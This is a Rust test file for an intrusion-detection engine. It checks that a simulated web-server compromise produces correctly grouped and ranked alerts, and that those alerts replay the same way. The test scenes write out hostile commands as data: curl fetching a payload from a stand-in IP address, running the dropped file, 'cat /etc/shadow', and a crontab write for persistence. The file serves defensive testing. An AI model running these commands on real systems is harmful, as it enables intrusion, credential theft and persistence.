//! Incidents through the whole core, and that records of every kind give the same alerts in a replay.

use super::*;
use crate::decode::decode;
use crate::encode::encode;
use crate::provenance::{Content, Manager, Package, Provenance};
use std::collections::BTreeSet;

const PAGE: &str = "/var/www/html/x.php";

fn incidents(scene: &Scene) -> usize {
    scene.alerts.iter().map(|alert| &alert.incident.id).collect::<BTreeSet<_>>().len()
}

/// A page is dropped, visited, fetches more, and stays.
fn story(scene: &mut Scene, worker: ProcessKey) {
    scene.write(worker, PAGE, 500);
    scene.later(20);
    scene.read(worker, PAGE, 500);
    scene.later(20);
    let shell = scene.start(worker, shell("curl -o /tmp/x http://192.0.2.1/x"));
    let curl = scene.start(shell, program("/usr/bin/curl", "curl -o /tmp/x http://192.0.2.1/x"));
    scene.write(curl, "/tmp/x", 501);
    scene.start(worker, Exec { inode: 501, ..program("/tmp/x", "x") });
    let reader = scene.start(worker, program("/usr/bin/cat", "cat /etc/shadow"));
    scene.read_secret(reader, "/etc/shadow", 502);
    let writer = scene.start(worker, program("/usr/bin/crontab", "crontab x"));
    scene.write(writer, "/var/spool/cron/crontabs/www-data", 503);
}

#[test]
fn one_story_is_one_incident_whatever_detectors_speak() {
    let (mut scene, worker) = Scene::php();
    story(&mut scene, worker);
    let told = scene.told();
    let detectors: BTreeSet<&str> = told.iter().map(|(detector, _)| *detector).collect();
    let expected = [
        "component-load",
        "component-write",
        "credential-access",
        "dropped-executable",
        "persistence-handoff",
        "server-shell",
    ];
    assert_eq!(detectors, expected.into());
    assert_eq!(incidents(&scene), 1);
    assert_eq!(told[0], ("component-write", "high"));
    assert!(told[1..].iter().all(|(_, severity)| *severity == "critical"), "{told:?}");
    let (first, last) = (&scene.alerts[0].incident, &scene.alerts.last().unwrap().incident);
    assert_eq!((first.score, last.score), (75, 100), "others make it worse");
    assert_eq!(first.first_seen_boottime_ns, last.first_seen_boottime_ns);
    assert!(last.timeline[0].1.contains(PAGE) && last.timeline.len() >= 6, "{:?}", last.timeline);
}

#[test]
fn a_recon_command_after_a_dropped_script_is_critical_and_a_lone_novelty_low() {
    let (mut scene, worker) = Scene::php();
    scene.write(worker, PAGE, 500);
    scene.later(20);
    scene.start(worker, program("/usr/bin/id", "id"));
    scene.told();
    let shell = scene.alerts.iter().find(|alert| alert.detector == Detector::ServerShell).unwrap();
    assert_eq!(shell.severity.name(), "critical");
    assert!(shell.why.last().unwrap().contains("component-write spoke as well: together they are critical"));
}

#[test]
fn what_is_only_to_know_makes_nothing_worse_that_is() {
    let (mut scene, worker) = Scene::php();
    scene.write(worker, "/var/www/html/wp-content/upgrade/x/x.php", 500);
    assert_eq!(scene.told(), [("component-write", "info")]);
}

#[test]
fn two_servers_are_two_stories_and_a_file_connects_writer_and_loader() {
    let (mut scene, worker) = Scene::php();
    let other = scene.start(INIT, program("/usr/sbin/nginx", "nginx"));
    scene.start(worker, program("/usr/bin/id", "id"));
    scene.start(other, program("/usr/bin/id", "id"));
    scene.told();
    assert_eq!(incidents(&scene), 2);

    let (mut scene, worker) = Scene::php();
    let stranger = scene.start(INIT, program("/opt/vendor/bin/setup", "setup"));
    scene.write(stranger, PAGE, 500);
    scene.later(50);
    scene.start(worker, program("/usr/bin/id", "id"));
    assert_eq!((scene.told().len(), incidents(&scene)), (2, 1), "what a stranger put there may be what it then runs");
    scene.read(worker, PAGE, 500);
    scene.told();
    assert_eq!(scene.alerts[2].incident.id, scene.alerts[0].incident.id);
}

#[test]
fn fifty_commands_of_one_kind_are_one_alert_and_an_update_a_minute_later() {
    let (mut scene, worker) = Scene::php();
    for _ in 0..50 {
        scene.start(worker, program("/usr/bin/id", "id"));
    }
    assert_eq!(scene.told().len(), 1);
    scene.later(60_000);
    assert_eq!(scene.told().len(), 2);
    assert_eq!((scene.alerts[1].incident.findings, scene.alerts[1].incident.untold), (50, 49));
    scene.later(60_000);
    assert_eq!(scene.told().len(), 2, "nothing more happened");
}

#[test]
fn many_different_commands_are_told_up_to_a_number() {
    let (mut scene, worker) = Scene::php();
    for number in 0..50 {
        scene.start(worker, program(&format!("/tmp/x{number}"), "x"));
    }
    assert_eq!(scene.told().len(), 8);
}

#[test]
fn records_of_every_kind_give_the_same_alerts_in_a_replay() {
    let (mut before, worker) = Scene::php();
    before.write(worker, "/usr/lib/php/20220829/y.so", 600);
    before.told();
    let kept = before.requests.iter().find_map(|request| match request {
        Request::Remember(kept) => Some(kept.clone()),
        _ => None,
    });

    let (mut scene, worker) = Scene::php();
    scene.happens(|at| remembered(at, &kept.unwrap()));
    scene.happens(|at| unit(at, worker, "php8.2-fpm.service"));
    story(&mut scene, worker);
    scene.map(worker, "/usr/lib/php/20220829/y.so", 600);
    scene.map(worker, "/usr/lib/php/20220829/z.so", 601);
    let package =
        Package { manager: Manager::Dpkg, name: "php8.2-z".into(), version: "1".into(), content: Content::Changed };
    scene.answer(Provenance { exists: true, package: Some(package), ..Provenance::absent() });
    let postgres = scene.start(INIT, program("/usr/lib/postgresql/15/bin/postgres", "postgres -D /data"));
    let backend = scene.fork(postgres, 110);
    scene.title(backend, "postgres: postgres shop [local] COPY");
    scene.start(backend, shell("id \u{fffd}"));
    scene.connect(backend, "[2001:db8::1]:443");
    scene.happens(|at| loss(at, 3));
    scene.happens(|at| listen(at, backend));
    scene.ends(backend);
    scene.happens(healed);
    assert!(scene.told().len() >= 9, "{:?}", scene.told());

    let mut replayed = Core::new(settings());
    let mut alerts = Vec::new();
    for event in &scene.events {
        let record = decode(&encode(event)).unwrap();
        assert_eq!(record, *event);
        alerts.extend(replayed.apply(&record).alerts);
    }
    let json = |alerts: &[Alert]| alerts.iter().map(Alert::to_json).collect::<Vec<_>>();
    assert_eq!(json(&alerts), json(&scene.alerts));
}
